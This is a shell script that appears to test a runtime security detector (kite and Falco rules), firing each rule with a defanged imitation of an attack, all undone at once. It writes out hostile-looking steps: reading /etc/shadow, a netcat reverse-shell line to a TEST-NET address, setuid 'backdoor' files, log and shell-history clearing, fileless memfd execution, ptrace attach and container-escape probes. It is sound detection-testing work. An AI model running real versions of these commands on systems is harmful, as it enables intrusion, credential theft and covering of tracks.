#!/bin/sh
# attacks.sh - one harmless action for each rule of rules/kite_rules.yaml, and for each official
# Falco rule that a syscall capture of a host can trigger. Run as root under kite-record:
#   kite-record --no-env --follow -w attacks.kcap -- sh samples/scenarios/attacks.sh
# Every action happens exactly once and is undone: files are created under a mktemp directory
# (0700), the few outside it (below /etc, /usr/bin, /dev, /dev/shm) are removed at once, and
# nothing is left running. Programs named like servers or tools (httpd, postgres, nc) are
# copies of /bin/sh and /bin/true. Container actions run in a "container" that is only a
# cgroup named like a Docker container (kite takes container.id from the cgroup path): no
# namespace is changed for real, the mount is a tmpfs on the temporary directory, the module
# load gets an invalid fd. The comment above each step names the rules it should fire
# (kite: rules/kite_rules.yaml; stable/incubating/sandbox: the official Falco rules files).
set -u
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export PATH
tmp=$(mktemp -d /tmp/kite-attacks-XXXXXX)
tag=$(basename "$tmp")
cgroup=""
# if interrupted, remove whatever is left (only what exists, so nothing is recorded twice)
cleanup() {
	for f in "/etc/cron.$tag" "/usr/bin/$tag" "/dev/$tag" "/dev/shm/$tag"; do
		[ -e "$f" ] && rm -f "$f"
	done
	[ -n "$cgroup" ] && [ -d "$cgroup" ] && rmdir "$cgroup"
	[ -d "$tmp" ] && rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# -- credentials ---------------------------------------------------------------------------
# kite: Credential File Read By Untrusted Program; stable: Read sensitive file untrusted
cat /etc/shadow >/dev/null
# incubating: User mgmt binaries (pwck -r only reads)
pwck -r >/dev/null 2>&1
# stable: Create Symlink Over Sensitive Files
ln -s /etc/shadow "$tmp/not-a-shadow"
# stable: Create Hardlink Over Sensitive Files (fails with EXDEV if /tmp is another filesystem)
ln /etc/shadow "$tmp/shadow-link" 2>/dev/null
# stable: Search Private Keys or Passwords
find "$tmp" -name id_rsa
# stable: Find AWS Credentials
find "$tmp" -path "*/.aws/credentials"

# -- persistence: files below /etc, binary directories, /dev --------------------------------
# kite: Write Below Etc By Non Package Manager; sandbox: Write below etc; incubating: Schedule Cron Jobs
echo "# kite sample" >"/etc/cron.$tag"
rm -f "/etc/cron.$tag"
# kite: Write Below Binary Dir By Non Package Manager; sandbox: Write below binary dir, then
# (the removal) Modify binary dirs
echo "# kite sample" >"/usr/bin/$tag"
rm -f "/usr/bin/$tag"
# incubating: Create files below dev
touch "/dev/$tag"
rm -f "/dev/$tag"
# incubating: Modify Shell Configuration File
touch "$tmp/.bashrc"
# kite: Setuid Or Setgid Bit Set; incubating: Set Setuid or Setgid bit should fire too, but does
# not in kite yet (evt.arg.mode is rendered in octal, not as S_ISUID|...: see tests/cli/rules.sh)
: >"$tmp/backdoor"
chmod 4755 "$tmp/backdoor"

# -- execution ------------------------------------------------------------------------------
# kite: Shell Spawned By Service; stable: Run shell untrusted; sandbox: Web Server Spawned Shell
cp /bin/sh "$tmp/httpd"
"$tmp/httpd" -c 'sh -c "echo webshell >/dev/null"; exit 0'
# incubating: DB program spawned process
cp /bin/sh "$tmp/postgres"
"$tmp/postgres" -c 'id >/dev/null; exit 0'
# incubating: Launch Suspicious Network Tool on Host; sandbox: Netcat/Socat Remote Code
# Execution on Host (a copy of /bin/true named nc)
cp /bin/true "$tmp/nc"
"$tmp/nc" -e /bin/sh 203.0.113.7 4444
# stable: Execution from /dev/shm
cp /bin/true "/dev/shm/$tag"
"/dev/shm/$tag"
rm -f "/dev/shm/$tag"
# stable: Remove Bulk Data from Disk
echo "kite sample" >"$tmp/wipe-me"
shred -u "$tmp/wipe-me"

# -- covering tracks ------------------------------------------------------------------------
# kite: Log File Cleared Or Removed; stable: Clear Log Activities (a file named auth.log)
: >"$tmp/auth.log"
# kite: Shell History Deleted Or Truncated; incubating: Delete or rename shell history
: >>"$tmp/.bash_history"
rm -f "$tmp/.bash_history"

# -- network --------------------------------------------------------------------------------
# kite: Unexpected Outbound Connection; stable: Disallowed SSH Connection Non Standard Port.
# 203.0.113.7 is TEST-NET-3 (RFC 5737): nothing answers, ssh gives up after a second.
if command -v ssh >/dev/null 2>&1; then
	ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null -p 4444 kite@203.0.113.7 true >/dev/null 2>&1
else
	echo "attacks.sh: no ssh client: skipping the outbound connection" >&2
fi

# -- processes, from a host process ---------------------------------------------------------
python3 - "$tmp" <<'PY'
import ctypes, os, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)

# kite: Fileless Execution From Memfd; stable: Fileless execution via memfd_create
fd = os.memfd_create("kite-fileless", 0)
os.write(fd, open("/bin/true", "rb").read())
subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=(fd,), check=False)
os.close(fd)

# kite: Ptrace Attach To Process; stable: PTRACE attached to process
child = subprocess.Popen(["sleep", "5"])
time.sleep(0.1)
if libc.ptrace(16, child.pid, 0, 0) == 0:  # PTRACE_ATTACH
    os.waitpid(child.pid, 0)
    libc.ptrace(17, child.pid, 0, 0)  # PTRACE_DETACH
child.kill()
child.wait()

# stable: PTRACE anti-debug attempt (PTRACE_TRACEME in a child that exits at once)
pid = os.fork()
if pid == 0:
    libc.ptrace(0, 0, 0, 0)
    os._exit(0)
os.waitpid(pid, 0)

# incubating: Non sudo setuid (a child dropping to uid 1; dropping to nobody is not reported)
pid = os.fork()
if pid == 0:
    try:
        os.setgid(1)
        os.setuid(1)
    finally:
        os._exit(0)
os.waitpid(pid, 0)

# kite: New Listening Socket (any address, an ephemeral port, closed at once)
srv = socket.socket()
srv.bind(("0.0.0.0", 0))
srv.listen(1)
srv.close()

# stable: Directory traversal monitored file read (the reader's parent is not a shell)
subprocess.run(["cat", "/etc/../../etc/hostname"], stdout=subprocess.DEVNULL, check=False)

# incubating: BPF Program Not Profiled (BPF_PROG_LOAD without attributes: fails)
libc.syscall(321, 5, None, 0)
PY

# -- container escapes, from a process in a fake container ----------------------------------
cgroot=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
cid=$(od -An -tx1 -N32 /dev/urandom | tr -d ' \n')
if [ -n "$cgroot" ] && mkdir "$cgroot/$cid" 2>/dev/null; then
	cgroup="$cgroot/$cid"
	sh -c 'echo $$ >"$1/cgroup.procs" && exec python3 - "$2"' sh "$cgroup" "$tmp" <<'PY'
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
tmp = sys.argv[1]

# kite: Namespace Change In Container; incubating: Change thread namespace
# (setns into the namespace it is already in)
ns = os.open("/proc/self/ns/uts", os.O_RDONLY)
libc.setns(ns, 0x04000000)  # CLONE_NEWUTS
os.close(ns)

# kite: Mount In Container (a tmpfs on the temporary directory, unmounted at once)
os.mkdir(tmp + "/mnt")
if libc.mount(b"none", (tmp + "/mnt").encode(), b"tmpfs", 0, None) == 0:
    libc.umount2((tmp + "/mnt").encode(), 0)

# kite: Kernel Module Load; stable: Linux Kernel Module Injection Detected (an invalid fd)
libc.syscall(313, -1, b"", 0)  # finit_module

# kite: Release Agent Or Kernel Helper Write; stable: Detect release_agent File Container
# Escapes (a file named release_agent in the temporary directory)
os.close(os.open(tmp + "/release_agent", os.O_WRONLY | os.O_CREAT, 0o600))

# stable: Packet socket created in container
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()

# kite: Network Socket Redirected To Standard Stream; stable: Redirect STDOUT/STDIN to
# Network Connection in Container (a loopback connection on stdout, restored at once)
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
cli = socket.create_connection(srv.getsockname())
conn, _ = srv.accept()
sys.stdout.flush()
saved = os.dup(1)
os.dup2(cli.fileno(), 1)
os.dup2(saved, 1)
os.close(saved)
for s in (conn, cli, srv):
    s.close()
PY
	for _ in 1 2 3 4 5 6 7 8 9 10; do
		rmdir "$cgroup" 2>/dev/null && cgroup="" && break
		sleep 0.1
	done
else
	echo "attacks.sh: cannot create a cgroup: skipping the container actions" >&2
fi
exit 0
